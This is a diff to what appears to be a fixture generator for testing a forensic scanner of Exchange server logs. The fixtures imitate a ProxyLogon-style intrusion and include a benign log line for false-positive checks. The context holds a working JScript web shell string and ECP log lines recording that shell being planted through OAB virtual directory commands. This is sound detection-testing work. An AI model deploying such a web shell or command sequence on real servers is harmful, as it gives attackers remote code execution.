@@ -5,7 +5,14 @@
  */
 import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
-import { bindQueryLog, ecpServerLog, httpProxyLog, iisLog, mailMessage } from './lib/formats.ts';
+import {
+  bindQueryLog,
+  ecpServerLog,
+  httpProxyLog,
+  iisLog,
+  mailMessage,
+  oabGeneratorLog,
+} from './lib/formats.ts';
 import { makeZip } from './lib/zip.ts';
 
 // An output folder may be given (the tests regenerate into a temporary one and compare).
@@ -110,6 +117,8 @@ put(
       health(9, '2021-03-03T06:30:05.362Z'),
     ],
     '2021-03-03T06:00:00.000Z',
+    // As Exchange writes it: a plain CSV header line above the #Software … #Fields directives.
+    { layout: 'exchange' },
   ),
 );
 
@@ -177,6 +186,7 @@ put(
       },
     ],
     '2021-03-02T15:00:00.000Z',
+    { layout: 'exchange' },
   ),
 );
 
@@ -185,23 +195,43 @@ const shell =
   '<script language="JScript" runat="server">function Page_Load(){eval(Request["ecu_k7"],"unsafe");}</script>';
 put(
   'exchange/Logging/ECP/Server/ECPServer20210303-1.LOG',
-  ecpServerLog([
-    {
-      time: '2021-03-03T06:49:51.389Z',
-      server: SERVER,
-      data: 'S:TIME=18;S:SID=;S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject;S:EX=;S:BLD=15.1.2176.2',
-    },
-    {
-      time: '2021-03-03T06:59:18.210Z',
-      server: SERVER,
-      data: `S:TIME=41;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${shell.replace(/'/g, "''")}'.Identity='6d1c2b8e-0f1d-4e43-a1a5-7d3f0f6c1a9e';S:EX=;S:BLD=15.1.2176.2`,
-    },
-    {
-      time: '2021-03-03T06:59:20.500Z',
-      server: SERVER,
-      data: "S:TIME=212;S:CMD=Reset-OABVirtualDirectory.Identity='6d1c2b8e-0f1d-4e43-a1a5-7d3f0f6c1a9e'.FilePathName='\\\\ex01\\C$\\inetpub\\wwwroot\\aspnet_client\\system_web\\ecu.aspx';S:EX=;S:BLD=15.1.2176.2",
-    },
-  ]),
+  ecpServerLog(
+    [
+      {
+        time: '2021-03-03T06:49:51.389Z',
+        server: SERVER,
+        data: 'S:TIME=18;S:SID=;S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject;S:EX=;S:BLD=15.1.2176.2',
+      },
+      {
+        time: '2021-03-03T06:59:18.210Z',
+        server: SERVER,
+        data: `S:TIME=41;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${shell.replace(/'/g, "''")}'.Identity='6d1c2b8e-0f1d-4e43-a1a5-7d3f0f6c1a9e';S:EX=;S:BLD=15.1.2176.2`,
+      },
+      {
+        time: '2021-03-03T06:59:20.500Z',
+        server: SERVER,
+        data: "S:TIME=212;S:CMD=Reset-OABVirtualDirectory.Identity='6d1c2b8e-0f1d-4e43-a1a5-7d3f0f6c1a9e'.FilePathName='\\\\ex01\\C$\\inetpub\\wwwroot\\aspnet_client\\system_web\\ecu.aspx';S:EX=;S:BLD=15.1.2176.2",
+      },
+    ],
+    { layout: 'exchange' },
+  ),
+);
+
+// --- OAB generator log: a routine failed download cleaned up in its own Temp folder. CISA's CHIRP
+// string matches the line; the CVE-2021-26858 check judges it normal, and the report says so.
+put(
+  'exchange/Logging/OABGeneratorLog/OABGenerator_2021030301-1.LOG',
+  oabGeneratorLog(
+    [
+      {
+        time: '2021-03-03T01:00:12.118Z',
+        level: 'Warning',
+        message:
+          "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\3f9a1c.tmp' needs to be removed",
+      },
+    ],
+    { layout: 'exchange' },
+  ),
 );
 
 // --- The file the reset wrote: the OAB configuration export with the shell in ExternalUrl.
